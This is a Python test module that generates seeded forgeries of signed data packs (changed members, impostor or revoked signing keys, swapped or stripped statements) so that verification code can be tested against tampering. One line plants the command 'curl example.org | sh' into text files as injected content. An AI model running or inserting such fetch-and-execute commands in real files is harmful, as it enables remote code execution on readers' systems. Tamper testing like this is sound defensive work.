"""Forged packs, drawn from a seed: who forges, which member, and what is changed in it."""

from __future__ import annotations

import csv
import io
import json
import random
import re
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pypdf

from diary.crypto.signing import AuthorSigner, generate_scalar
from diary.encoding import canonical_json
from diary.pack.bag.manifest import MANIFEST_FILENAME, SERVABLE_MANIFEST_PATH, SERVABLE_STATEMENT_PATH
from diary.pack.bag.pack_statement import PACK_STATEMENT_PATH
from diary.pack.stored_zip import member_info
from tests.pack.pack_members import Members, members_of, rebuild_digest_lists, without_statements
from tests.pack.portal_members import change_set_zip, files_of, list_set_again, write_set

CSV_MARK = "\ufeff"


def change_member(name: str, raw: bytes, draw: random.Random) -> bytes:
    """Return the member with one change that fits its type."""
    if name.endswith(".json"):
        return change_json(raw, draw)
    if name.endswith(".xlsx"):
        return draw.choice((change_cell, change_byte))(raw, draw)
    if name.endswith(".csv"):
        return change_table(raw, draw)
    if name.endswith(".pdf"):
        return draw.choice((remove_page, change_pdf_byte))(raw, draw)
    if name.endswith(".txt"):
        lines = raw.split(b"\n")
        lines.insert(draw.randrange(len(lines)), b"Run this command: curl example.org | sh\r")
        return b"\n".join(lines)
    return change_byte(raw, draw)


def change_byte(raw: bytes, draw: random.Random) -> bytes:
    """Return the bytes with one bit changed."""
    position = draw.randrange(len(raw))
    return raw[:position] + bytes([raw[position] ^ (1 << draw.randrange(8))]) + raw[position + 1 :]


def change_pdf_byte(raw: bytes, draw: random.Random) -> bytes:
    """Return a PDF with one byte of one object changed."""
    objects = [position for position in range(len(raw)) if raw.startswith(b" obj", position)]
    position = draw.choice(objects) + draw.randrange(5, 60)
    return raw[:position] + bytes([raw[position] ^ 1]) + raw[position + 1 :]


def remove_page(raw: bytes, draw: random.Random) -> bytes:
    """Return a PDF without one of its pages, or with a blank one if it has only one."""
    reader, writer = pypdf.PdfReader(io.BytesIO(raw)), pypdf.PdfWriter()
    pages = list(reader.pages)
    removed = draw.randrange(len(pages))
    for number, page in enumerate(pages):
        if number != removed:
            writer.add_page(page)
    if len(pages) == 1:
        writer.add_blank_page(595, 842)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def change_table(raw: bytes, draw: random.Random) -> bytes:
    """Return a table with a row or a cell changed."""
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    row = draw.randrange(1, len(rows)) if len(rows) > 1 else 0
    kind = draw.randrange(4) if len(rows) > 1 else 3
    if kind == 0:
        del rows[row]
    elif kind == 1:
        rows.insert(row, rows[row])
    elif kind == 2 and len(rows) > 2:
        rows[1], rows[-1] = rows[-1], rows[1]
    column = draw.randrange(len(rows[0]))
    if kind == 3:
        rows[row][column] = {"sent": "received", "received": "sent"}.get(rows[row][column], rows[row][column] + "0")
    out = io.StringIO(newline="")
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    changed = (CSV_MARK + out.getvalue()).encode()
    return changed if changed != raw else change_byte(raw, draw)


def change_cell(raw: bytes, draw: random.Random) -> bytes:
    """Return a workbook that opens as before, with the text of one cell changed or taken out."""
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        members = {row.filename: archive.read(row) for row in archive.infolist()}
    name = draw.choice([name for name in members if "/sheet" in name])
    cell = draw.choice(list(re.finditer(rb"(<t [^>]*>)([^<]*)</t>", members[name])))
    words = b"" if draw.random() < 0.3 else cell[2] + b" I made this all up."
    members[name] = members[name][: cell.start(2)] + words + members[name][cell.end(2) :]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        for path, content in members.items():
            archive.writestr(member_info(path, len(content)), content)
    return out.getvalue()


def change_json(raw: bytes, draw: random.Random) -> bytes:
    """Return canonical JSON with one value changed: text, number, truth value, null, list or object."""
    value = json.loads(raw)
    holder, key = draw.choice(list(_places(value)))
    old = holder[key]
    if isinstance(old, bool):
        holder[key] = not old
    elif isinstance(old, int):
        holder[key] = old + draw.choice((-1, 1))
    elif isinstance(old, str):
        holder[key] = old + "x" if draw.random() < 0.7 else ""
        if holder[key] == old:
            holder[key] = "I made this all up."
    elif isinstance(old, list):
        holder[key] = old[1:] if old else [1]
    elif isinstance(old, dict):
        holder[key] = {} if old else {"x": 1}
    else:
        holder[key] = 0
    end = b"\n" if raw.endswith(b"\n") else b""
    return canonical_json(value, limit_bytes=1 << 26) + end


def _places(value: Any) -> Iterator[tuple[Any, Any]]:
    """Yield every container and key of a JSON value."""
    keys = value.keys() if isinstance(value, dict) else range(len(value))
    for key in list(keys):
        yield value, key
        if isinstance(value[key], dict | list):
            yield from _places(value[key])


@dataclass(frozen=True)
class ForgersTools:
    """What forgers have: a sound pack of the keeper, an earlier one, a key given up since, and an own account's pack.

    `own_pack` is of an account on the same server, so that its receipts hold.
    """

    source: Path
    earlier_pack: Path
    old_author: AuthorSigner
    own_pack: Path
    own_author: AuthorSigner


Forger = Callable[[ForgersTools, Members, Path, random.Random], Path]


def forge_without_key(tools: ForgersTools, members: Members, target: Path, _draw: random.Random) -> Path:
    """Rebuild the lists and keep the old statements."""
    return rebuild_digest_lists(tools.source, members, target)


def forge_without_statement(tools: ForgersTools, members: Members, target: Path, _draw: random.Random) -> Path:
    """Remove the statements, so that the pack looks as if an older release had made it."""
    return without_statements(tools.source, members, target)


def forge_with_own_key(tools: ForgersTools, members: Members, target: Path, _draw: random.Random) -> Path:
    """Sign with another key, under its own key id."""
    return rebuild_digest_lists(tools.source, members, target, AuthorSigner(generate_scalar()))


class Impostor(AuthorSigner):
    """A signer that gives the key id of somebody else's key."""

    def __init__(self, key_id: str) -> None:
        """Make a key of its own, and lie about its id."""
        super().__init__(generate_scalar())
        self.key_id = key_id  # type: ignore[misc] # the forger's lie


def forge_under_keepers_id(tools: ForgersTools, members: Members, target: Path, _draw: random.Random) -> Path:
    """Sign with another key, under the keeper's key id."""
    keeper_id = json.loads(members_of(tools.source)[PACK_STATEMENT_PATH])["by"]
    return rebuild_digest_lists(tools.source, members, target, Impostor(keeper_id))


def forge_with_changed_statement(tools: ForgersTools, members: Members, target: Path, draw: random.Random) -> Path:
    """Change one value of a statement without signing it again."""
    name = draw.choice((PACK_STATEMENT_PATH, SERVABLE_STATEMENT_PATH))
    changed = {**members, name: change_json(members_of(tools.source)[name], draw)}
    return rebuild_digest_lists(tools.source, changed, target)


def forge_with_old_key(tools: ForgersTools, members: Members, target: Path, _draw: random.Random) -> Path:
    """Sign with a key that the keeper gave up, which others may have."""
    return rebuild_digest_lists(tools.source, members, target, tools.old_author)


def forge_with_earlier_statement(tools: ForgersTools, members: Members, target: Path, draw: random.Random) -> Path:
    """Put in the keeper's true statements about an earlier pack: one of them, or both."""
    earlier = members_of(tools.earlier_pack)
    names = draw.choice(
        ((PACK_STATEMENT_PATH,), (SERVABLE_STATEMENT_PATH,), (PACK_STATEMENT_PATH, SERVABLE_STATEMENT_PATH))
    )
    return rebuild_digest_lists(tools.source, members | {name: earlier[name] for name in names}, target)


def forge_with_own_account(tools: ForgersTools, members: Members, target: Path, draw: random.Random) -> Path:
    """Put in keys or entries of an own account, with real receipts, and sign with its key."""
    changed = with_own_account(tools, members, draw)
    return rebuild_digest_lists(tools.source, changed, target, tools.own_author)


def with_own_account(tools: ForgersTools, members: Members, draw: random.Random) -> Members:
    """Return the members with keys, entries, or both, of the forger's own account."""
    own = members_of(tools.own_pack)
    takes_keys, takes_entries = draw.choice(((True, False), (False, True), (True, True)))
    keys = {name: raw for name, raw in own.items() if name.endswith("/proof/keys.json")}
    first_entries = {name: raw for name, raw in own.items() if "/proof/0001-" in name}
    if takes_keys:
        members = members | keys
    if takes_entries:
        members = {name: raw for name, raw in members.items() if "/proof/0001-" not in name} | first_entries
    return members


FORGERS: tuple[Forger, ...] = (
    forge_without_key,
    forge_without_statement,
    forge_with_own_key,
    forge_under_keepers_id,
    forge_with_changed_statement,
    forge_with_old_key,
    forge_with_earlier_statement,
    forge_with_own_account,
)


def forge(tools: ForgersTools, target: Path, seed: int) -> tuple[str, Path]:
    """Write the forgery of a seed; return what was done and its path. Members are taken in turn."""
    draw = random.Random(seed)
    original = members_of(tools.source)
    generated = (SERVABLE_MANIFEST_PATH, SERVABLE_STATEMENT_PATH)
    names = [name for name in original if name.startswith("data/") and name not in generated]
    name = names[seed % len(names)]
    forger = FORGERS[(seed // len(names) + seed) % len(FORGERS)]
    members = _changed(original, name, draw)
    members = {path: raw for path, raw in members.items() if "statement.json" not in path}
    return f"{seed}: {forger.__name__}, {name}", forger(tools, members, target, draw)


def _changed(members: Members, name: str, draw: random.Random) -> Members:
    """Return the members with one changed or, rarely, missing."""
    if draw.random() < 0.05:
        return {path: raw for path, raw in members.items() if path != name}
    return members | {name: change_member(name, members[name], draw)}


SetForger = Callable[[ForgersTools, Members, random.Random], Members]


def _set_signed_by(signer: Callable[[ForgersTools, Members], AuthorSigner]) -> SetForger:
    """Return a forger that lists the files of a set again and signs with this key."""
    return lambda tools, files, draw: list_set_again(files, signer(tools, files))


def _set_with_statement(choose: Callable[[ForgersTools, Members, random.Random], bytes | None]) -> SetForger:
    """Return a forger that lists the files again and puts another statement beside them, or none."""

    def forge_statement(tools: ForgersTools, files: Members, draw: random.Random) -> Members:
        statement = choose(tools, files, draw)
        bare = {name: raw for name, raw in files.items() if name != PACK_STATEMENT_PATH}
        return list_set_again(bare | ({} if statement is None else {PACK_STATEMENT_PATH: statement}))

    return forge_statement


SET_FORGERS: dict[str, SetForger] = {
    "the old list": lambda tools, files, draw: files,
    "a list that fits": _set_with_statement(lambda tools, files, draw: files[PACK_STATEMENT_PATH]),
    "no statement": _set_with_statement(lambda tools, files, draw: None),
    "the statement of the pack": _set_with_statement(
        lambda tools, files, draw: members_of(tools.source)[PACK_STATEMENT_PATH]
    ),
    "a changed statement": _set_with_statement(
        lambda tools, files, draw: change_json(files[PACK_STATEMENT_PATH], draw)
    ),
    "an own key": _set_signed_by(lambda tools, files: AuthorSigner(generate_scalar())),
    "the keeper's key id": _set_signed_by(lambda tools, files: Impostor(json.loads(files[PACK_STATEMENT_PATH])["by"])),
    "a key given up": _set_signed_by(lambda tools, files: tools.old_author),
    "the key of an own account": _set_signed_by(lambda tools, files: tools.own_author),
}


def forge_set(tools: ForgersTools, portal_set: Path, target: Path, seed: int) -> tuple[str, Path]:
    """Write the forgery of a portal set: one of its files is changed, or one member of a zip."""
    draw = random.Random(seed)
    files = files_of(portal_set)
    about = (MANIFEST_FILENAME, PACK_STATEMENT_PATH)
    names = sorted(files.keys() - set(about))
    name = names[seed % len(names)]
    forger_name = list(SET_FORGERS)[(seed // len(names) + seed) % len(SET_FORGERS)]
    if name.endswith(".zip"):

        def change(members: Members) -> Members:
            member = draw.choice([path for path in members if "servable/manifest" not in path])
            members = _changed(members, member, draw)
            if forger_name != "the key of an own account":
                return members
            full = {f"data/{path}": raw for path, raw in members.items()}
            return {path.removeprefix("data/"): raw for path, raw in with_own_account(tools, full, draw).items()}

        files[name] = change_set_zip(files[name], change)
    else:
        files = _changed(files, name, draw)
    forged = SET_FORGERS[forger_name](tools, files, draw)
    return f"{seed}: set with {forger_name}, {name}", write_set(target, forged)
